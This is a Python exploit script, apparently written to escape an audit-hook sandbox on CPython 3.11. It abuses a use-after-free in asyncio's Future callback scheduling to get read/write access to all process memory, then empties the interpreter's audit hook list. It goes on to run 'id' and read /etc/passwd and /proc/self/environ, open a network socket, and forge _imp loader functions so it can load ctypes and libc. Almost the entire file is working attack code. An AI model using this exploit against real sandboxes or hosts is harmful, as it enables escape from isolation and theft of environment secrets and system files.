# family: wall (memory: gh-125984, the loop's call_soon looked up with the first callback borrowed)   goal: id   interpreter: /usr/bin/python3
#        -> use after free -> raw memory -> audit hook list emptied
#
# Family: memory safety of CPython 3.11 (asyncio's C Future, fixed in 3.12 and
#   later only).
# Mechanism: set_result marks the future done and hands its first callback to the
#   loop: future_schedule_callbacks calls call_soon(loop, fut_callback0, ...) with
#   the callback BORROWED, and call_soon looks loop.call_soon up first. The
#   program's loop answers that lookup from its __getattribute__: there it removes
#   the callback from the future (the future's reference) and drops its own (the
#   last), and bytearrays of FAKE take the freed 80-byte block back (200 of them:
#   its pool need not be the first with a free block). call_soon is then called
#   with the dangling pointer: a fake bytearray of 2**62 bytes at address 0 (the
#   context is the program's own, held: the future drops its reference with the
#   callback's). X54's guard does not stand in the way: it holds the callbacks
#   only while remove_done_callback runs. Then the wall9 recipe: audit_hooks
#   ob_size = 0; os.system, open, socket, frames, _imp forged -> ctypes.
# Goals reached on the image of main: audit hook removed; `id`; /etc/passwd;
#   environment; AF_INET socket; entrypoint frames and globals; native library
#   (ctypes + libc).
#
import sys
os = sys.modules["os"]
import asyncio
keep = []
got = []
# A context of the program's own, held: the future drops its reference too (a
# real loop's Handle carries one).
context = asyncio.new_event_loop().call_soon(len, "")._context
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
class Tracker:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __call__(s, f): pass
tracker = []
class EvilLoop:
    def get_debug(self):
        return False
    def call_soon(self, callback, *args, **kwargs):
        got.append(callback)
    def __getattribute__(self, name):
        if name == "call_soon" and tracker:
            fut.remove_done_callback(tracker[0])   # the future's reference
            tracker.clear()                         # the last one
            for i in range(200):                    # the freed block, wherever
                keep.append(bytearray(FAKE))        # its pool is in the free list
        return object.__getattribute__(self, name)
fut = asyncio.Future(loop=EvilLoop())
def raw_memory():
    tracker.append(Tracker())   # made last: its block is the next one handed out
    fut.add_done_callback(tracker[0], context=context)   # the first callback
    fut.set_result(None)
    return got[0]
mem = raw_memory()
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
# image's /usr/bin/python3.11 (3.11.2): &_PyRuntime - &PyType_Type, main interpreter,
# audit_hooks (measured for wall7 ok_05 with ctypes outside the sandbox)
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(raw_memory)):
        continue
    name = rd(fn + 32)                                      # func_name
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])  # compact ASCII str
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)                   # ob_size = 0: no hook
        print("audit hook list emptied", flush=True)
os.system("id; head -2 /etc/passwd")
print(open("/proc/self/environ", "rb").read().replace(b"\0", b" "))
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("AF_INET socket:", s)
# frames and globals of the entrypoint (sys._getframe is no longer audited)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
# a native library: _imp's loaders are the wall's stubs and the originals are gone;
# forged back with the memory view: a copy of a real _imp function object whose m_ml
# points at the method table entry of create_dynamic / exec_dynamic.
_imp = sys.modules["_imp"]
def entry(name):
    ml0 = rd(id(_imp.is_builtin) + 16)             # PyCFunctionObject.m_ml (imp_methods[])
    for k in range(0, 16):                          # the loaders follow is_builtin
        p = rd(ml0 + 32 * k)
        if p == 0:
            return None
        if bytes(mem[p:p + len(name) + 1]) == name + b"\0":
            return ml0 + 32 * k
keepalive = []
def forge(model, name):
    # 16 zero bytes (an untracked GC head), then a copy of the model with m_ml changed
    buf = bytearray(16) + bytearray(mem[id(model):id(model) + 56])
    buf[16:24] = (1 << 40).to_bytes(8, "little")
    buf[32:40] = entry(name).to_bytes(8, "little")
    keepalive.append(buf)
    addr = rd(id(buf) + 32) + 16                    # the bytearray's ob_start + 16
    holder = [None]
    mem[rd(id(holder) + 24):rd(id(holder) + 24) + 8] = addr.to_bytes(8, "little")
    return holder[0]
_imp.create_dynamic = forge(_imp._fix_co_filename, b"create_dynamic")   # METH_FASTCALL
_imp.exec_dynamic = forge(_imp.is_builtin, b"exec_dynamic")           # METH_O
ctypes = sys.modules["importlib"].import_module("ctypes")
libc = ctypes.CDLL("libc.so.6")
print("ctypes loaded, libc getpid() =", libc.getpid(), "getuid() =", libc.getuid())
sys.stdout.flush()
os._exit(0)
